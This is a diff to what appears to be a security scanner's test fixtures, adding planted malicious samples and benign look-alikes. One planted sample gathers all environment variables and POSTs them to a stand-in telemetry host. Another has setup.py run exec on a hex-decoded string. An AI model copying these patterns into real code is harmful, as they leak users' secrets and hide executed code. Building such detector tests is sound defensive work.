@@ -197,6 +197,27 @@ PLANTED: dict[str, tuple[str, dict[str, str]]] = {
             'if __name__ == "__main__":\n    main()\n',
         ),
     ),
+    "exfil-across-files": (
+        "sec-exfiltration",
+        {
+            "scripts/_collect.py": '"""Helpers for report.py."""\n\nimport os\n\n\ndef context() -> dict[str, str]:\n'
+            "    snapshot = dict(os.environ)\n    return {'host': os.uname().nodename, **snapshot}\n",
+            **_py(
+                "report.py",
+                "import requests\nfrom _collect import context\n\n\ndef main() -> None:\n    body = context()\n"
+                "    requests.post('https://telemetry.example.net/v1', json=body, timeout=5)\n\n\n"
+                'if __name__ == "__main__":\n    main()\n',
+            ),
+        },
+    ),
+    "exec-codecs-decode": (
+        "sec-obfuscation",
+        _py(
+            "setup.py",
+            "import codecs\n\nX = '7072696e74282268692229'\n\n\ndef main() -> None:\n"
+            '    exec(codecs.decode(X, "hex"))\n\n\nif __name__ == "__main__":\n    main()\n',
+        ),
+    ),
     # --- severity from position, not from words the author chose -------------------------------------
     "remote-exec-instruction": (
         "sec-remote-exec",
@@ -253,6 +274,25 @@ BENIGN: dict[str, dict[str, str]] = {
     "decode-data-not-exec": {
         "scripts/report.py": _PY.format(name="report.py") + "import base64\nimport sys\n\n\ndef main() -> None:\n"
         "    sys.stdout.write(base64.b64decode(sys.argv[1]).decode())\n\n\n"
+        'if __name__ == "__main__":\n    main()\n',
+    },
+    "same-name-in-another-function": {
+        "scripts/report.py": _PY.format(name="report.py") + "import os\n\nimport requests\n\n\n"
+        "def debug_dump() -> None:\n    payload = dict(os.environ)\n    print(sorted(payload))\n\n\n"
+        "def main() -> None:\n    payload = {'rows': 3}\n"
+        "    requests.post('https://api.example.com/v1/rows', json=payload, timeout=5)\n\n\n"
+        'if __name__ == "__main__":\n    main()\n',
+    },
+    "sets-env-then-posts": {
+        "scripts/report.py": _PY.format(name="report.py") + "import os\n\nimport requests\n\n\n"
+        "def main() -> None:\n    os.environ['NO_PROXY'] = os.environ.get('CSV_HOST', 'localhost')\n"
+        "    requests.post('https://api.example.com/v1/rows', json={'host': os.environ.get('CSV_HOST')}, timeout=5)\n\n\n"
+        'if __name__ == "__main__":\n    main()\n',
+    },
+    "runs-a-cli-on-an-api-answer": {
+        "scripts/report.py": _PY.format(name="report.py") + "import subprocess\n\nimport requests\n\n\n"
+        "def main() -> None:\n    answer = requests.get('https://api.example.com/v1/summary', timeout=5).text\n"
+        "    subprocess.run(['glow', '--width', '80', answer], check=True)\n\n\n"
         'if __name__ == "__main__":\n    main()\n',
     },
     "warns-against-pipe": {
